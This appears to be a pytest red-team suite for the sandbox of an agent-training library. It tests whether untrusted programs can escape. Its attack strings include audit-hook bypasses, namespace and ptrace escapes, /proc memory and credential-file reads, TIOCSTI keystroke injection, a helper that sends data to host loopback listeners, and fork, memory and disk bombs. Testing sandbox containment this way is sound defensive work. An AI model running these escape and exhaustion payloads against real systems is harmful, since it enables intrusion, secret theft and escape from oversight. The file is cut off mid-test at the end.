"""Red team: programs written to get out of ``run_sandboxed``, each judged from outside the sandbox.

Every attack runs in the bwrap backend; unless its class is the audit hook itself, with the in-process hook
layer switched off, so what holds is the kernel alone. After each run the judge checks, from the host:

- no canary file appeared at the host paths the attack tried to create, and a host directory that
  the attack tried to delete is still there;
- the loopback TCP, Unix-path and abstract Unix-socket listeners received nothing;
- ``ps`` shows no process of the sandbox uid and no child of this test process left behind;
- this process and a victim process of the sandbox's host uid are alive; ``core_pattern`` is unchanged;
- the launcher (the process outside every sandbox that starts ``bwrap``, as the sandbox's host uid) is the
  same process as before the run, alive, without capabilities, and has no child left;
- the files of the sandbox's prepared root (hard links to the host's interpreter, standard library and
  libraries, and the entry script) have the same content, mode and times as before;
- a secret held only by the host side (a world-readable file, an environment variable of this process
  and of the victim, a directory name in ``/tmp``) does not come back in the output;
- for the grader class, the reward is not above the honest reward of the same (wrong) function.

No attack reaches beyond loopback or the sockets and files this test creates.
"""

from __future__ import annotations

import hashlib
import os
import secrets
import selectors
import shutil
import socket
import subprocess
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from agentrl.envs import PythonSandboxEnv, SandboxLimits, _bwrap, run_sandboxed
from agentrl.envs._bwrap import SANDBOX_UID
from agentrl.envs._sandbox_root import CHILD_PATH, sandbox_root
from agentrl.envs.python_sandbox import MARKER

KERNEL_ONLY = SandboxLimits(cpu_time_s=1, wall_time_s=1.5, memory_mb=256, max_output_bytes=8192,
                            max_file_bytes=1 << 20, max_processes=16, max_disk_bytes=8 << 20, audit_hook_layer=False)
WITH_HOOK = SandboxLimits(cpu_time_s=1, wall_time_s=1.5, memory_mb=256, max_output_bytes=8192,
                          max_file_bytes=1 << 20, max_processes=16, max_disk_bytes=8 << 20)
SECRET = secrets.token_hex(16)
TOKEN = secrets.token_hex(6)


@dataclass
class Judge:
    """Everything an escaped program would touch, watched from the host."""

    port: int
    unix_path: str
    abstract: str
    secret_file: str
    secret_dir: str
    keep_dir: str
    victim: subprocess.Popen
    core_pattern: str
    launcher: int  # PID of the process that starts bwrap (outside the sandbox, as its host uid)
    tree: dict  # host path of a file in the sandbox's root -> its fingerprint
    received: list = field(default_factory=list)
    canaries: list = field(default_factory=list)
    before: frozenset = frozenset()  # processes of the sandbox uid that were there before this module

    def canary(self, name: str) -> str:
        path = f"/tmp/agentrl-canary-{TOKEN}-{name}"
        self.canaries.append(path)
        return path

    def prelude(self, canary: str) -> str:
        """Constants an attacker knows (where the prizes are) and ``win()``: what it does once out."""
        return (f"import os, sys\nCANARY = {canary!r}\nPORT = {self.port}\nUNIX = {self.unix_path!r}\n"
                f"ABSTRACT = {self.abstract!r}\nSECRET_FILE = {self.secret_file!r}\nKEEP_DIR = {self.keep_dir!r}\n"
                f"HOST_PID = {os.getpid()}\nLAUNCHER_PID = {self.launcher}\n"
                f"VICTIM_PID = {self.victim.pid}\n" + WIN + "# --end of prelude--\n")

    def check(self, output: str, canary: str, *, settle_s: float = 0.05) -> None:
        time.sleep(settle_s)
        assert not os.path.exists(canary), f"the sandbox created {canary} on the host"
        assert os.path.exists(os.path.join(self.keep_dir, "data")), f"the sandbox deleted {self.keep_dir} on the host"
        assert self.received == [], f"a host listener was reached: {self.received}"
        assert SECRET not in output, "the host's secret came back in the output"
        assert self.victim.poll() is None, "the victim process (host uid of the sandbox) was killed"
        assert _core_pattern() == self.core_pattern
        assert _launcher_pid() == self.launcher, "the launcher was replaced (it died or was killed)"
        assert _fingerprints(self.tree) == self.tree, "a file of the sandbox's root (a host file) changed"
        status = Path(f"/proc/{self.launcher}/status").read_text()
        assert "\nCapEff:\t0000000000000000\n" in status, "the launcher holds capabilities"
        if os.getuid() == 0:
            assert f"\nUid:\t{SANDBOX_UID}\t{SANDBOX_UID}\t{SANDBOX_UID}\t{SANDBOX_UID}\n" in status
        left = leftovers(self.victim.pid, self.before | {self.launcher})
        assert not left, f"processes left after the run:\n{left}"


WIN = r'''
def win(how=""):
    try:
        import shutil
        shutil.rmtree(KEEP_DIR)
    except BaseException:
        pass
    try:
        with open(CANARY, "w") as f:
            f.write("escaped " + how)
    except BaseException:
        pass
    try:
        import socket
    except BaseException:
        return
    for family, address in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_UNIX, UNIX),
                            (socket.AF_UNIX, "\0" + ABSTRACT)):
        try:
            s = socket.socket(family, socket.SOCK_STREAM)
            s.settimeout(0.3)
            s.connect(address)
            s.sendall(b"escaped " + how.encode())
            s.close()
        except BaseException:
            pass
    for path in (SECRET_FILE, "/proc/%d/environ" % VICTIM_PID, "/proc/%d/environ" % HOST_PID):
        try:
            print(open(path, "rb").read()[:4096])
        except BaseException:
            pass
'''


def _launcher_pid() -> int:
    return _bwrap._launcher().pid


def _tree_files() -> list[str]:
    """Files of the prepared root that an attacker would most like to change (hard links to host files)."""
    root = sandbox_root().path
    inside = [sandbox_root().executable, CHILD_PATH, os.path.join(os.path.dirname(os.__file__), "os.py"),
              "/usr/lib/x86_64-linux-gnu/libc.so.6", "/usr/lib64/ld-linux-x86-64.so.2"]
    return [root + p for p in inside if os.path.exists(root + p)]


def _fingerprints(paths) -> dict:
    out = {}
    for path in paths:
        st = os.stat(path)
        with open(path, "rb") as f:
            out[path] = (st.st_mode, st.st_uid, st.st_nlink, st.st_mtime_ns, st.st_ctime_ns,
                         hashlib.sha256(f.read()).hexdigest())
    return out


def _core_pattern() -> str:
    with open("/proc/sys/kernel/core_pattern") as f:
        return f.read()


def leftovers(victim_pid: int, before: frozenset = frozenset()) -> str:
    """``ps`` lines of processes of the sandbox uid, or children of this process, other than the victim
    and those in ``before``."""
    me = os.getpid()
    lines = subprocess.run(["ps", "-e", "-o", "pid=,ppid=,uid=,stat=,args="], capture_output=True, text=True,
                           check=False).stdout
    rows = [line.split(None, 4) for line in lines.splitlines()]
    by_parent: dict[int, list[int]] = {}
    for row in rows:
        by_parent.setdefault(int(row[1]), []).append(int(row[0]))
    mine, todo = set(), [me]
    while todo:
        for child in by_parent.get(todo.pop(), []):
            if child not in mine:
                mine.add(child)
                todo.append(child)
    # a zombie runs nothing: bwrap exits once it has the exit status, and the host's PID 1 reaps the
    # sandbox's dead init a moment later
    bad = [row for row in rows if int(row[0]) not in (victim_pid, me, *before) and "ps -e -o" not in " ".join(row[4:])
           and not row[3].startswith("Z") and (int(row[0]) in mine or (os.getuid() == 0 and int(row[2]) == SANDBOX_UID))]
    return "\n".join(" ".join(row) for row in bad)


def _listen(judge_received: list, stop: threading.Event, unix_path: str, abstract: str) -> tuple[int, threading.Thread]:
    tcp = socket.create_server(("127.0.0.1", 0))
    unix = socket.socket(socket.AF_UNIX)
    unix.bind(unix_path)
    os.chmod(unix_path, 0o777)  # only the namespaces keep the sandbox uid out, not the file mode
    unix.listen()
    abstract_sock = socket.socket(socket.AF_UNIX)
    abstract_sock.bind("\0" + abstract)
    abstract_sock.listen()
    sel = selectors.DefaultSelector()
    for s, kind in ((tcp, "tcp"), (unix, "unix"), (abstract_sock, "abstract")):
        s.setblocking(False)
        sel.register(s, selectors.EVENT_READ, kind)

    def serve():
        while not stop.is_set():
            for key, _ in sel.select(0.05):
                try:
                    conn, _ = key.fileobj.accept()
                except OSError:
                    continue
                conn.settimeout(0.2)
                try:
                    data = conn.recv(100)
                except OSError:
                    data = b""
                judge_received.append((key.data, data))
                conn.close()
        for s in (tcp, unix, abstract_sock):
            s.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    return tcp.getsockname()[1], thread


@pytest.fixture(scope="module")
def judge_base():
    os.environ["AGENTRL_ESCAPE_SECRET"] = SECRET
    secret_file = f"/tmp/agentrl-secret-{TOKEN}.txt"
    with open(secret_file, "w") as f:
        f.write(f"AGENTRL_ESCAPE_SECRET={SECRET}\n")
    os.chmod(secret_file, 0o644)  # readable by anyone on the host: only the mount namespace hides it
    secret_dir = f"/tmp/agentrl-secret-dir-{SECRET}"
    os.makedirs(secret_dir, exist_ok=True)
    keep_dir = f"/tmp/agentrl-keep-{TOKEN}"  # host data the sandbox must not be able to delete
    os.makedirs(keep_dir, exist_ok=True)
    open(os.path.join(keep_dir, "data"), "w").close()
    os.chmod(keep_dir, 0o777)
    identity = {"user": SANDBOX_UID, "group": SANDBOX_UID, "extra_groups": []} if os.getuid() == 0 else {}
    victim = subprocess.Popen(["sleep", "3600"], env={"AGENTRL_ESCAPE_SECRET": SECRET}, **identity)
    received: list = []
    stop = threading.Event()
    unix_path, abstract = f"/tmp/agentrl-escape-{TOKEN}.sock", f"agentrl-escape-{TOKEN}"
    port, thread = _listen(received, stop, unix_path, abstract)
    assert run_sandboxed("print(1)", KERNEL_ONLY).output == "1\n"  # the launcher is up
    judge = Judge(port, unix_path, abstract, secret_file, secret_dir, keep_dir, victim,
                  _core_pattern(), _launcher_pid(), _fingerprints(_tree_files()), received)
    judge.before = frozenset(int(line.split()[0]) for line in leftovers(victim.pid).splitlines())
    yield judge
    stop.set()
    thread.join()
    victim.kill()
    victim.wait()
    for path in (secret_file, unix_path, *judge.canaries):
        if os.path.lexists(path):
            os.remove(path)
    os.rmdir(secret_dir)
    shutil.rmtree(keep_dir, ignore_errors=True)
    os.environ.pop("AGENTRL_ESCAPE_SECRET", None)


@pytest.fixture
def judge(judge_base):
    judge_base.received.clear()
    return judge_base


# name -> (attack body, limits, seconds after the run before judging). Grouped by the class attacked.
ATTACKS: dict[str, tuple[str, SandboxLimits, float]] = {}


def attack(name: str, body: str, limits: SandboxLimits = KERNEL_ONLY, settle_s: float = 0.05) -> None:
    ATTACKS[name] = (body, limits, settle_s)


# --- the audit hook: in-process, trusting objects the attacker controls (hook layer ON) ---
attack("hook: PathLike whose __fspath__ changes after the hook's check (shutil.rmtree)", '''
class Flip:
    n = 0
    def __fspath__(self):
        Flip.n += 1
        return "inside" if Flip.n == 1 else KEEP_DIR
os.mkdir("inside")
try:
    import shutil
    shutil.rmtree(Flip())
except OSError as e:
    print("no", e)
win("fspath")
''', WITH_HOOK)
attack("hook: str subclass whose methods lie to posixpath.realpath", '''
class Liar(str):
    def startswith(self, *a):
        return False
    def partition(self, sep):
        return ("inside.txt", "", "")
try:
    open(Liar(CANARY), "w").write("escaped")
except OSError as e:
    print("no", e)
''', WITH_HOOK)
attack("hook: monkeypatched posixpath internals", '''
import posixpath
posixpath._joinrealpath = lambda path, rest, strict, seen: (os.getcwd() + "/x", True)
posixpath.realpath = lambda p, strict=False: os.getcwd() + "/x"
win("monkeypatch")
''', WITH_HOOK)
attack("hook: the hook's own traceback frame hands over its closure cells", '''
try:
    open("/nonexistent/x", "w")
except PermissionError as e:
    tb = e.__traceback__
    while tb is not None:
        for value in list(tb.tb_frame.f_locals.values()):
            for cell in getattr(value, "__closure__", None) or ():
                if cell.cell_contents is os.path.realpath:
                    cell.cell_contents = lambda p: os.getcwd()
        tb = tb.tb_next
win("frames")
''', WITH_HOOK)
attack("hook: blocked _posixsubprocess loaded under another name spawns an unhooked python", '''
import importlib.machinery, importlib.util, glob, time
so = glob.glob(os.path.join(os.path.dirname(os.__file__), "lib-dynload", "_posixsubprocess*.so"))[0]
loader = importlib.machinery.ExtensionFileLoader("evil._posixsubprocess", so)
mod = importlib.util.module_from_spec(importlib.util.spec_from_loader("evil._posixsubprocess", loader))
loader.exec_module(mod)
code = open("main.py").read().split("# --end of prelude--")[0] + "\\nwin('spawned')\\n"
r, w = os.pipe()
args = [[sys.executable, "-I", "-S", "-c", code], [os.fsencode(sys.executable)], True, (), None, None,
        -1, -1, -1, -1, -1, -1, r, w, True, False, -1, None, None, None, -1, None]
for extra in ([], [False]):  # Python 3.11 added allow_vfork
    try:
        print("spawned", mod.fork_exec(*args, *extra)); break
    except TypeError as e:
        print("signature", e)
os.close(w)
time.sleep(0.5)
''', WITH_HOOK)
attack("hook: an unhooked setsid daemon through the aliased module outlives the run", '''
import importlib.machinery, importlib.util, glob
so = glob.glob(os.path.join(os.path.dirname(os.__file__), "lib-dynload", "_posixsubprocess*.so"))[0]
loader = importlib.machinery.ExtensionFileLoader("x._posixsubprocess", so)
mod = importlib.util.module_from_spec(importlib.util.spec_from_loader("x._posixsubprocess", loader))
loader.exec_module(mod)
code = (open("main.py").read().split("# --end of prelude--")[0]
        + "\\nimport time\\nos.close(1)\\nos.close(2)\\ntime.sleep(0.8)\\nfor _ in range(20):\\n    win('daemon')\\n    time.sleep(0.1)\\n")
r, w = os.pipe()
args = [[sys.executable, "-I", "-S", "-c", code], [os.fsencode(sys.executable)], True, (), None, None,
        -1, -1, -1, -1, -1, -1, r, w, True, True, -1, None, None, None, -1, None]
for extra in ([], [False]):
    try:
        print("daemon", mod.fork_exec(*args, *extra)); break
    except TypeError:
        pass
''', WITH_HOOK, settle_s=1.5)
attack("hook: dir_fd read resolved against the wrong directory (/proc/self/root)", '''
fd = os.open("/proc/%d" % os.getpid(), os.O_RDONLY)
for rel in ("root" + SECRET_FILE, "root/proc/%d/environ" % HOST_PID, "root/proc/%d/environ" % VICTIM_PID):
    try:
        print(os.read(os.open(rel, os.O_RDONLY, dir_fd=fd), 4096))
    except OSError as e:
        print("no", e)
''', WITH_HOOK)
attack("hook: check-then-use race swapping a directory for a symlink", '''
import threading
target = os.path.dirname(CANARY)
stop = False
def flip():
    while not stop:
        try:
            os.mkdir("d")
        except OSError:
            pass
        try:
            os.rmdir("d"); os.symlink(target, "d")
        except OSError:
            pass
        try:
            os.remove("d")
        except OSError:
            pass
t = threading.Thread(target=flip); t.start()
hits = 0
for _ in range(5000):
    try:
        open("d/" + os.path.basename(CANARY), "w").write("raced"); hits += 1
    except OSError:
        pass
stop = True; t.join()
print("writes", hits)
''', WITH_HOOK)

# --- blocked modules and privileged system calls, with the kernel alone ---
attack("ctypes: setuid(0), setgroups, then write the canary", '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print(libc.setuid(0), libc.setgid(0), libc.setgroups(0, None), ctypes.get_errno())
win("setuid")
''')
attack("ctypes: unshare a user namespace and mount the host root", '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
print("unshare", libc.unshare(CLONE_NEWUSER | CLONE_NEWNS), ctypes.get_errno())
os.makedirs("host", exist_ok=True)
print("mount", libc.mount(b"/dev/vda", b"host", b"ext4", 0, None), ctypes.get_errno())
print(os.listdir("host"))
win("userns")
''')
attack("ctypes: setns into every network namespace visible in /proc", '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + [str(HOST_PID), "1"]:
    for ns in ("net", "mnt", "user", "pid"):
        try:
            fd = os.open("/proc/%s/ns/%s" % (pid, ns), os.O_RDONLY)
            print(pid, ns, libc.setns(fd, 0), ctypes.get_errno())
        except OSError as e:
            print(pid, ns, e)
win("setns")
''')
attack("nsenter and host binaries from a subprocess", '''
import subprocess
for cmd in (["nsenter", "-t", "1", "-n", "-m", "--", "sh", "-c", "echo escaped > " + CANARY],
            ["/usr/bin/nsenter", "-t", str(HOST_PID), "-a", "true"], ["/bin/sh", "-c", "id"], ["unshare", "-r", "id"]):
    try:
        print(subprocess.run(cmd, capture_output=True, timeout=1))
    except Exception as e:
        print("no", e)
win("nsenter")
''')
attack("ptrace the sandbox's init and every visible process", '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()] + [HOST_PID]:
    print(pid, libc.ptrace(16, pid, None, None), ctypes.get_errno())  # PTRACE_ATTACH
win("ptrace")
''')
attack("raw and packet sockets", '''
import socket
for args in ((socket.AF_PACKET, socket.SOCK_RAW, 0x0300), (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP),
             (socket.AF_NETLINK, socket.SOCK_RAW, 0)):
    try:
        s = socket.socket(*args); print("opened", args, s)
    except OSError as e:
        print("no", e)
print(socket.if_nameindex())
win("raw")
''')
attack("loopback TCP, Unix path and abstract sockets of the host", '''
import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET6, ("::1", PORT)),
                        (socket.AF_UNIX, UNIX), (socket.AF_UNIX, "\\0" + ABSTRACT)):
    try:
        s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(0.5); s.connect(address); s.send(b"x")
        print("connected", address)
    except OSError as e:
        print("no", address, e)
''')
attack("UDP to the host's loopback port", '''
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(10):
    try:
        s.sendto(b"escaped", ("127.0.0.1", PORT))
    except OSError as e:
        print("no", e)
win("udp")
''')
attack("mknod device nodes for the host disks and read them", '''
import stat
parts = [line.split() for line in open("/proc/partitions").read().splitlines()[2:] if line.strip()]
for major, minor, _, name in parts[:8]:
    try:
        os.mknod("dev-" + name, stat.S_IFBLK | 0o600, os.makedev(int(major), int(minor)))
        data = open("dev-" + name, "rb").read(1 << 20)
        i = data.find(b"AGENTRL_ESCAPE_SECRET=")
        print(name, data[i:i + 60] if i >= 0 else "no secret")
    except OSError as e:
        print("no", name, e)
try:
    os.mknod("mem", stat.S_IFCHR | 0o600, os.makedev(1, 1)); print(open("mem", "rb").read(16))
except OSError as e:
    print("no /dev/mem", e)
''')
attack("mkfifo and mknod at the canary path and in /dev", '''
for path in (CANARY, "/dev/fifo", "/canary-fifo"):
    try:
        os.mkfifo(path); print("fifo", path)
    except OSError as e:
        print("no", path, e)
win("fifo")
''')
attack("pidfd_open sweep signalling every PID", '''
import signal
killed = 0
for pid in range(2, 70000):
    try:
        fd = os.pidfd_open(pid)
    except OSError:
        continue
    try:
        signal.pidfd_send_signal(fd, signal.SIGKILL); killed += 1
    except OSError:
        pass
    os.close(fd)
print("killed", killed)
''')
attack("kill(-1) and direct kills of host PIDs", '''
import signal
for pid in (HOST_PID, VICTIM_PID, -1):
    try:
        os.kill(pid, signal.SIGKILL); print("sent", pid)
    except OSError as e:
        print("no", pid, e)
''')
attack("/proc/<host pid>/mem: read the parent's memory and write into it", '''
for pid in (HOST_PID, os.getppid(), 1):
    try:
        with open("/proc/%d/mem" % pid, "r+b") as f:
            maps = open("/proc/%d/maps" % pid).read().splitlines()
            for line in maps:
                lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
                if "rw" in line.split()[1] and hi - lo < 1 << 24:
                    f.seek(lo); data = f.read(hi - lo)
                    i = data.find(b"AGENTRL_ESCAPE_SECRET=")
                    if i >= 0:
                        print(data[i:i + 60]); f.seek(lo + i); f.write(b"X" * 22)
    except OSError as e:
        print("no", pid, e)
''')
attack("environ and cmdline of every visible process", '''
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + [str(HOST_PID), str(VICTIM_PID)]:
    for name in ("environ", "cmdline", "cwd/" + os.path.basename(SECRET_FILE)):
        try:
            print(pid, name, open("/proc/%s/%s" % (pid, name), "rb").read()[:2000])
        except OSError as e:
            print("no", pid, name, e)
''')
attack("host files: the secret, /etc, /root, home, project sources", '''
import glob
for pattern in (SECRET_FILE, "/etc/shadow", "/etc/passwd", "/root/.*", "/root/*", "/home/*/.*", "/work/*/*.md",
                "/work/*/envs/*.py", "/tmp/*", "/var/*", "/run/*"):
    for path in glob.glob(pattern) or [pattern]:
        try:
            print(path, open(path, "rb").read()[:500])
        except OSError as e:
            print("no", path, e)
''')
attack("directory listings of the host", '''
for d in ("/", "/tmp", "/root", "/home", "/etc", "/var", "/run", "/usr", "/usr/bin", "/proc/1/root", "/proc/1/cwd",
          "/proc/self/root/tmp"):
    try:
        print(d, os.listdir(d))
    except OSError as e:
        print("no", d, e)
for root, dirs, files in os.walk("/"):
    if root.startswith("/proc"):
        continue
    print(root, dirs[:20], files[:20])
''')
attack("symlinks and /proc/*/root paths to the host /tmp", '''
for path in ("/proc/1/root" + CANARY, "/proc/%d/root%s" % (HOST_PID, CANARY), "/proc/self/cwd/../.." + CANARY):
    try:
        open(path, "w").write("escaped"); print("wrote", path)
    except OSError as e:
        print("no", path, e)
try:
    os.symlink(os.path.dirname(CANARY), "up"); open("up/" + os.path.basename(CANARY), "w").write("escaped")
except OSError as e:
    print("no", e)
win("symlink")
''')
attack("writes to the read-only root, /dev, /usr and the interpreter", '''
for path in ("/evil", "/dev/evil", "/dev/shm/evil", "/usr/lib/evil", os.path.join(os.path.dirname(os.__file__), "os.py"),
             sys.executable, "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname"):
    try:
        with open(path, "a") as f:
            f.write("|/sandbox/evil")
        print("wrote", path)
    except OSError as e:
        print("no", path, e)
win("ro")
''')
attack("remount, pivot and chroot to get the host back", '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print("remount", libc.mount(None, b"/", None, 32 | 0x1000000, None), ctypes.get_errno())  # MS_REMOUNT|MS_BIND
print("proc", libc.mount(b"proc", b"/sandbox", b"proc", 0, None), ctypes.get_errno())
print("chroot", libc.chroot(b"/proc/1/root"), ctypes.get_errno())
try:
    os.chdir("/proc/1/cwd"); print(os.listdir("."))
except OSError as e:
    print("no", e)
win("mount")
''')
attack("keyctl, bpf, userfaultfd, perf_event_open and io_uring", '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
for name, nr, args in (("keyctl", 250, (0, 0, 0)), ("bpf", 321, (0, 0, 0)), ("userfaultfd", 323, (0,)),
                       ("perf_event_open", 298, (0, 0, 0)), ("kexec_load", 246, (0, 0, 0)), ("init_module", 175, (0, 0, 0)),
                       ("io_uring_setup", 425, (8, 0))):
    print(name, libc.syscall(nr, *args), ctypes.get_errno())
win("syscalls")
''')
attack("a new session with a terminal ioctl (TIOCSTI) into the host's tty", '''
import fcntl, termios
for path in ("/dev/tty", "/proc/%d/fd/0" % HOST_PID, "/dev/console", "/dev/pts/0"):
    try:
        fd = os.open(path, os.O_RDWR)
        for ch in b"touch " + CANARY.encode() + b"\\n":
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
        print("injected", path)
    except OSError as e:
        print("no", path, e)
''')

# the prepared root's files are hard links to the host's: a change there would be a change on the host
attack("the prepared root: rewrite, rename, unlink, chmod or link interpreter, libc, os.py, entry script", '''
import shutil
targets = [sys.executable, "/.agentrl/child.pyc", os.__file__, "/usr/lib/x86_64-linux-gnu/libc.so.6",
           "/usr/lib64/ld-linux-x86-64.so.2"]
for path in targets:
    for name, how in (("append", lambda p: open(p, "ab").write(b"evil")),
                      ("truncate", lambda p: os.truncate(p, 0)),
                      ("open O_TRUNC", lambda p: os.close(os.open(p, os.O_WRONLY | os.O_TRUNC))),
                      ("chmod", lambda p: os.chmod(p, 0o777)),
                      ("utime", lambda p: os.utime(p, (0, 0))),
                      ("link", lambda p: os.link(p, "linked")),
                      ("rename", lambda p: os.rename(p, p + ".moved")),
                      ("unlink", lambda p: os.unlink(p)),
                      ("copy over", lambda p: shutil.copyfile("/.agentrl/child.pyc", p))):
        try:
            how(path); print("did", name, path)
        except OSError as e:
            print("no", name, path, e.errno)
    try:
        with open(path, "r+b") as f:
            f.write(b"\\x00" * 16); print("overwrote", path)
    except OSError as e:
        print("no r+b", path, e.errno)
win("tree")
''')

# --- the launcher: a process outside every sandbox that starts bwrap on request ---
attack("launcher: every inherited socket asked to start a host shell, and a bwrap that binds the host root", '''
import array, socket, stat
commands = (["/bin/sh", "-c", "touch " + CANARY],
            ["/usr/bin/bwrap", "--unshare-user", "--bind", "/", "/", "--", "/bin/sh", "-c", "touch " + CANARY])
for fd in range(3, 1024):
    try:
        if not stat.S_ISSOCK(os.fstat(fd).st_mode):
            continue
    except OSError:
        continue
    for argv in commands:
        try:
            s = socket.socket(fileno=os.dup(fd))
            a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
            s.sendmsg(["\\0".join(argv).encode()], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [b.fileno(), 1]))])
            a.settimeout(0.3)
            print("sent on", fd, a.recv(64))
        except OSError as e:
            print("no", fd, e)
print("fds", os.listdir("/proc/self/fd"))
win("launcher-fd")
''', settle_s=0.3)
attack("launcher: signals, pidfd, ptrace and /proc/<pid>/mem aimed at its host PID", '''
import ctypes, signal
libc = ctypes.CDLL(None, use_errno=True)
for sig in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
    try:
        os.kill(LAUNCHER_PID, sig); print("sent", sig)
    except OSError as e:
        print("no", e)
try:
    signal.pidfd_send_signal(os.pidfd_open(LAUNCHER_PID), signal.SIGKILL); print("pidfd kill")
except OSError as e:
    print("no pidfd", e)
print("ptrace", libc.ptrace(16, LAUNCHER_PID, 0, 0), ctypes.get_errno())  # PTRACE_ATTACH
for path in ("/proc/%d/mem" % LAUNCHER_PID, "/proc/%d/environ" % LAUNCHER_PID):
    try:
        print(open(path, "rb").read(64))
    except OSError as e:
        print("no", path, e)
win("launcher-signal")
''')

# --- cleanup: what is left after the run ---
attack("a setsid double-forked daemon that waits, then tries everything", '''
import time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in (0, 1, 2):
            os.close(fd)
        time.sleep(0.8)
        for _ in range(20):
            win("daemon"); time.sleep(0.1)
        os._exit(0)
    os._exit(0)
print("parent leaves")
''', settle_s=1.5)
attack("children that ignore SIGTERM/SIGHUP, change process group and close stdout", '''
import signal, time
for _ in range(6):
    if os.fork() == 0:
        for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(s, signal.SIG_IGN)
        os.setpgid(0, 0)
        os.close(1); os.close(2)
        while True:
            time.sleep(0.05)
print("main exits first")
''', settle_s=0.3)
attack("a daemon that re-execs itself under a new session every generation", '''
import time
code = "import os, time\\nwhile True:\\n  if os.fork() == 0:\\n    os.setsid()\\n  else:\\n    os._exit(0)\\n  time.sleep(0.05)\\n"
if os.fork() == 0:
    os.execv(sys.executable, [sys.executable, "-I", "-S", "-c", code])
time.sleep(0.3)
''', settle_s=0.3)
attack("the main process blocks forever after starting a daemon", '''
import time
if os.fork() == 0:
    os.setsid()
    while True:
        time.sleep(1)
time.sleep(100)
''')

# --- resource exhaustion ---
attack("memory: one huge allocation", "x = bytearray(10**11)")
attack("memory: growing lists in several processes", '''
for _ in range(4):
    if os.fork() == 0:
        break
xs = []
while True:
    xs.append(bytearray(8 << 20))
''')
attack("memory: anonymous mmap beyond the limit", '''
import mmap
m = mmap.mmap(-1, 1 << 34, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
m[:] = b"x" * len(m)
''')
attack("fork bomb", '''
while True:
    try:
        os.fork()
    except OSError:
        pass
''')
attack("thread bomb", '''
import threading, time
n = 0
while True:
    try:
        threading.Thread(target=time.sleep, args=(100,), daemon=True).start(); n += 1
    except RuntimeError:
        print("threads", n); time.sleep(100)
''')
attack("infinite output on stdout", "while True:\n    sys.stdout.write('x' * 65536)")
attack("infinite output on stderr, unbuffered", "while True:\n    os.write(2, b'y' * 65536)")
attack("CPU spin with SIGXCPU and SIGTERM ignored, in several processes", '''
import signal
for s in (signal.SIGXCPU, signal.SIGTERM, signal.SIGHUP):
    signal.signal(s, signal.SIG_IGN)
for _ in range(3):
    if os.fork() == 0:
        break
while True:
    pass
''')
attack("disk filling: many files under the per-file limit", '''
total = 0
try:
    for i in range(10**6):
        with open("f%d" % i, "wb") as f:
            f.write(b"z" * ((1 << 20) - 1))
        total += (1 << 20) - 1
except OSError as e:
    print("stopped", total, e)
''')
attack("disk filling: one file past the size limit", '''
with open("big", "wb") as f:
    while True:
        f.write(b"z" * (1 << 20))
''')
attack("deep recursion with the recursion limit lifted", '''
sys.setrecursionlimit(10**8)
def f(n):
    return f(n + 1) + 1
f(0)
''')
attack("many sleeping threads and an unkillable wait", '''
import threading, time
for _ in range(12):
    threading.Thread(target=time.sleep, args=(100,)).start()
time.sleep(100)
''')
attack("file descriptor and inode exhaustion", '''
fds, n = [], 0
try:
    while True:
        fds.append(os.open("/dev/null", os.O_RDONLY))
except OSError as e:
    print("fds", len(fds), e)
try:
    while True:
        os.mkdir("d%d" % n); n += 1
except OSError as e:
    print("dirs", n, e)
''')


@pytest.mark.parametrize("name", list(ATTACKS))
def test_attack_is_contained(judge, name):
    body, limits, settle_s = ATTACKS[name]
    canary = judge.canary(str(list(ATTACKS).index(name)))
    start = time.monotonic()
    result = run_sandboxed(judge.prelude(canary) + body, limits)
    elapsed = time.monotonic() - start
    assert elapsed < limits.wall_time_s + 3.0, f"{name}: the run took {elapsed:.1f} s"
    judge.check(result.output, canary, settle_s=settle_s)
    assert os.getpid() and os.kill(os.getpid(), 0) is None  # this process is alive and can be signalled


STEAL = '''
import array, socket, stat, time
socks = []
for fd in range(3, 1024):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            socks.append(socket.socket(fileno=os.dup(fd)))
    except OSError:
        pass
print("sockets", len(socks))
end = time.monotonic() + 1.2
while time.monotonic() < end:
    for s in socks:
        try:
            msg, anc, _, _ = s.recvmsg(1 << 16, socket.CMSG_SPACE(64), socket.MSG_DONTWAIT)
        except OSError:
            continue
        print("stole a request", msg[:100])
        for _, _, data in anc:
            for fd in array.array("i", data[:len(data) - len(data) % 4]):
                try:
                    print("read", os.pread(fd, 4096, 0))
                except OSError:
                    pass
                try:
                    os.write(fd, b"FORGED\\n")
                except OSError:
                    pass
'''


def test_a_run_cannot_take_other_runs_requests_from_the_launcher(judge):
    """Runs that start while an attack runs get their own program and output, and the attack never sees them."""
    honest = f"X = {SECRET!r}\nprint(len(X))"  # the program text holds the secret; its output does not
    outputs: list[str] = []

    def others() -> None:
        end = time.monotonic() + 1.5
        while time.monotonic() < end:
            outputs.append(run_sandboxed(honest, KERNEL_ONLY).output)

    thread = threading.Thread(target=others)
    canary = judge.canary("steal")
    thread.start()
